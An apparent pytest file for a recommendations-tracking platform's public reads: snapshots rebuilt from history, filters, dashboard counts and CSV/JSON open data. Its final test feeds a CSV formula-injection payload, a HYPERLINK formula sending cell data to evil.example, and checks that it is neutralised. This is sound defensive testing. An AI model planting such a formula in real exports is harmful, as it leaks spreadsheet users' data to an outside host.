"""Public reads and open data: filters, dashboard, dated snapshots rebuilt from history, CSV and JSON."""

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from recommendations_factories import YOUSSEF, evidence, service

from recommendations.demo import ADOPTED_AT, load_demo
from support import Infra, Keys


async def _status(svc: Any, rid: str, status: str, progress: int | None = None) -> None:
    response = await svc.client.post(f"/recommendations/{rid}/status", headers=svc.organizer(),
                                     json={"status": status, "progress": progress, "reason": f"Passage à {status}"})
    assert response.status_code == 200, response.text


async def _moment() -> datetime:
    """A moment strictly between two changes (stored times have millisecond precision)."""
    await asyncio.sleep(0.01)
    moment = datetime.now(UTC)
    await asyncio.sleep(0.01)
    return moment


async def test_a_snapshot_at_a_past_moment_equals_the_state_at_that_moment(infra: Infra, keys: Keys) -> None:
    async with service(infra, keys) as svc:
        before_demo = await _moment()
        await load_demo(svc.platform)
        seen: list[tuple[datetime, Any, Any, Any]] = []
        changes = [("ess5-r17", "limited", 20), ("ess5-r21", "limited", 10), ("ess5-r17", "substantial", 60),
                   ("ess5-r03", "withdrawn", None)]
        for rid, status, progress in changes:
            await _status(svc, rid, status, progress)
            moment = await _moment()
            seen.append((moment, (await svc.client.get("/recommendations")).json(),
                         (await svc.client.get("/recommendations/ess5-r17")).json(),
                         (await svc.client.get("/dashboard")).json()))
        await svc.client.post("/recommendations/ess5-r17/status", headers=svc.organizer(), json={
            "status": "complete", "reason": "Plateforme nationale ouverte", "evidence": [evidence()]})
        await svc.client.post("/recommendations/ess5-r17/completion/approve", headers=svc.organizer(YOUSSEF),
                              json={"reason": "Vérifié"})
        for moment, listed, detail, board in seen:
            at = moment.isoformat()
            assert (await svc.client.get("/recommendations", params={"date": at})).json() == listed
            assert (await svc.client.get("/recommendations/ess5-r17", params={"date": at})).json() == detail
            past_board = (await svc.client.get("/dashboard", params={"date": at})).json()
            for key in ("total", "by_status", "by_theme", "by_lead_body", "overdue_recommendations",
                        "overdue_milestones", "average_progress"):
                assert past_board[key] == board[key], key
        # The demo's register starts at the adoption of the recommendations, before it was loaded.
        before_adoption = (ADOPTED_AT - timedelta(seconds=1)).isoformat()
        empty = (await svc.client.get("/recommendations", params={"date": before_adoption})).json()
        loaded = (await svc.client.get("/recommendations", params={"date": before_demo.isoformat()})).json()
        now = (await svc.client.get("/recommendations/ess5-r17")).json()
        bad = await svc.client.get("/recommendations", params={"date": "hier"}, headers={"Accept-Language": "ar"})
    assert empty == [] and len(loaded) == 28 and {r["status"] for r in loaded} == {"not_started"}
    assert seen[2][2]["status"] == "substantial" and now["status"] == "complete"
    assert seen[0][3]["by_status"]["limited"] == 1 and seen[3][3]["by_status"]["withdrawn"] == 1
    assert bad.status_code == 422 and bad.json()["code"] == "bad_snapshot_date" and bad.json()["lang"] == "ar"


async def test_the_list_filters_by_status_theme_body_and_edition(infra: Infra, keys: Keys) -> None:
    async with service(infra, keys) as svc:
        await load_demo(svc.platform)
        await _status(svc, "ess5-r20", "limited", 15)
        by_status = (await svc.client.get("/recommendations", params={"status": "limited"})).json()
        by_theme = (await svc.client.get("/recommendations", params={"theme": "market_access"})).json()
        by_body = (await svc.client.get("/recommendations", params={"body": "chambers"})).json()
        other_edition = (await svc.client.get("/recommendations", params={"edition": 4})).json()
        bad_status = await svc.client.get("/recommendations", params={"status": "done"})
    assert [r["id"] for r in by_status] == ["ess5-r20"]
    assert {r["id"] for r in by_theme} == {"ess5-r16", "ess5-r17", "ess5-r20"}
    assert all("chambers" in [r["lead_body"], *r["contributing_bodies"]] for r in by_body)
    assert "ess5-r28" in {r["id"] for r in by_body} and len(by_body) >= 4
    assert other_edition == []
    assert bad_status.status_code == 422 and bad_status.json()["errors"][0]["code"] == "field_not_allowed"


async def test_dashboard_counts_and_flags_overdue_milestones(infra: Infra, keys: Keys) -> None:
    async with service(infra, keys) as svc:
        await load_demo(svc.platform)
        board = (await svc.client.get("/dashboard", params={"edition": 5})).json()
        done = await svc.client.post("/recommendations/ess5-r04/milestones/m-r04-decree/complete",
                                     headers=svc.organizer(), json={"reason": "Projet transmis au SGG",
                                                                    "evidence": [evidence()]})
        again = await svc.client.post("/recommendations/ess5-r04/milestones/m-r04-decree/complete",
                                      headers=svc.organizer(), json={"reason": "encore"})
        after = (await svc.client.get("/dashboard", params={"edition": 5})).json()
    assert board["total"] == 28 and board["by_status"]["not_started"] == 28
    assert sum(board["by_lead_body"].values()) == 28 and board["by_body"]["ministry_ess"] >= 20
    assert board["by_theme"]["local_initiatives"] >= 5 and set(board["by_theme"]) >= {"market_access"}
    overdue = {(m["recommendation_id"], m["milestone_id"]) for m in board["overdue_milestones"]}
    assert {("ess5-r04", "m-r04-decree"), ("ess5-r07", "m-r07-register-spec")} <= overdue
    assert ("ess5-r17", "m-r17-markets-2027") not in overdue
    assert "ess5-r01" in board["overdue_recommendations"]
    targets = {i["id"]: i for i in board["indicators"]}
    assert targets["ind-strategy-cooperative-employees"]["baseline"] == 50_000
    assert targets["ind-strategy-cooperative-employees"]["target"] == 175_000
    assert targets["ind-r08-additional-jobs"]["target"] == 50_000
    assert done.status_code == 200 and done.json()["milestones"][0]["completed_at"]
    assert again.status_code == 409 and again.json()["code"] == "milestone_already_completed"
    assert ("ess5-r04", "m-r04-decree") not in {(m["recommendation_id"], m["milestone_id"])
                                                for m in after["overdue_milestones"]}


async def test_open_data_csv_parses_with_arabic_intact_and_stable_ids(infra: Infra, keys: Keys) -> None:
    async with service(infra, keys) as svc:
        await load_demo(svc.platform)
        response = await svc.client.get("/open-data/recommendations.csv")
        listed = (await svc.client.get("/recommendations")).json()
        dictionary = (await svc.client.get("/open-data/dictionary")).json()
        snapshot = (await svc.client.get("/open-data/recommendations.json", params={"date": "2020-01-01"})).json()
        current = (await svc.client.get("/open-data/recommendations.json")).json()
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 28
    assert [row["recommendation_id"] for row in rows] == [f"ess5-r{n:02d}" for n in range(1, 29)]
    assert {row["recommendation_id"]: row["text_ar"] for row in rows} == {r["id"]: r["text"]["ar"] for r in listed}
    assert rows[20]["text_ar"].startswith("تحقيق العدالة المجالية")
    assert rows[16]["themes"] == "market_access|promote_products"
    columns = [c["name"] for c in dictionary["files"]["/open-data/recommendations.csv"]["columns"]]
    assert columns == list(rows[0].keys())
    assert all(set(c["description"]) == {"ar", "fr", "en"} for c in
               dictionary["files"]["/open-data/recommendations.csv"]["columns"])
    assert set(dictionary["codes"]["status"]) == {"not_started", "limited", "substantial", "complete", "withdrawn"}
    assert snapshot["recommendations"] == [] and snapshot["rebuilt_from_history"] is True
    assert [r["id"] for r in current["recommendations"]] == [row["recommendation_id"] for row in rows]


async def test_open_data_csv_writes_formula_like_texts_as_text(infra: Infra, keys: Keys) -> None:
    from recommendations_factories import new_recommendation

    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez")'
    async with service(infra, keys) as svc:
        created = await svc.client.post("/recommendations", headers=svc.organizer(), json=new_recommendation(
            text={"ar": "@SUM(1+1)", "fr": hyperlink, "en": "-1+1"}))
        assert created.status_code == 201, created.text
        response = await svc.client.get("/open-data/recommendations.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    [row] = [r for r in rows if r["recommendation_id"] == created.json()["id"]]
    assert (row["text_ar"], row["text_fr"], row["text_en"]) == ("'@SUM(1+1)", "'" + hyperlink, "'-1+1")
    assert row["edition"] == "5" and row["progress"] == "0" and row["overdue"] == "false"
